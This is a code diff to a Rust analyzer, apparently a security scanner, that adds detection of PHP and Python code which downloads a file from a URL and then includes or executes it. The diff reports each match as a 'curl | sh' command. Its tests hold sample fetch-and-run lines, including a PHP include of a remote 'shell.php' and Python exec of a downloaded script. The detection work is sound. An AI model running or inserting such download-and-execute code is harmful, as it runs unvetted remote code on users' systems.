@@ -496,6 +496,46 @@ pub(crate) fn analyze(lang: &str, code: &str) -> InlineFindings {
             }
         }
     }
+    // Code downloaded to a file and then run from it in the same program: PHP's
+    // `copy('https://…', $tmp); include $tmp;`, Python's `urlretrieve('https://…', p)` then
+    // `exec(open(p).read())` / `runpy.run_path(p)`.
+    for (fetch, runs) in [
+        (
+            "copy(",
+            &[
+                "include ",
+                "include(",
+                "include_once",
+                "require ",
+                "require(",
+                "require_once",
+            ][..],
+        ),
+        (
+            "urlretrieve(",
+            &[
+                "exec(",
+                "runpy.",
+                "os.system(",
+                "subprocess.",
+                "import_module(",
+            ][..],
+        ),
+    ] {
+        if !runs.iter().any(|r| code.contains(r)) {
+            continue;
+        }
+        for seg in call_segments(code, fetch) {
+            if let Some(url) = string_literals(seg)
+                .into_iter()
+                .next()
+                .filter(|u| u.starts_with("http://") || u.starts_with("https://"))
+            {
+                f.shell_commands
+                    .push(format!("curl -fsSL {} | sh", shell_quote(&url)));
+            }
+        }
+    }
     // Julia's command literals: `` run(`rm -rf x`) ``, `` pipeline(`tar …`, `curl …`) `` (the
     // stages of one pipeline), `` read(`…`, String) ``.
     if lang.starts_with("julia") && code.contains('`') {
@@ -2741,6 +2781,21 @@ mod tests {
         for (lang, code, runs) in [
             ("Rscript", "source('https://x.example/setup.R')", true),
             ("php", "include('http://203.0.113.5/shell.php');", true),
+            (
+                "php",
+                "copy('https://x.example/stubs.php', sys_get_temp_dir().'/s.php'); include sys_get_temp_dir().'/s.php';",
+                true,
+            ),
+            (
+                "php",
+                "copy('https://x.example/stubs.php', base_path('stubs.php'));",
+                false,
+            ),
+            (
+                "python3",
+                "from urllib.request import urlretrieve; urlretrieve('https://x.example/a.py', '/tmp/a.py'); exec(open('/tmp/a.py').read())",
+                true,
+            ),
             ("node", "await import('https://x.example/m.mjs')", true),
             // Data fetched and parsed: nothing from the URL runs.
             (
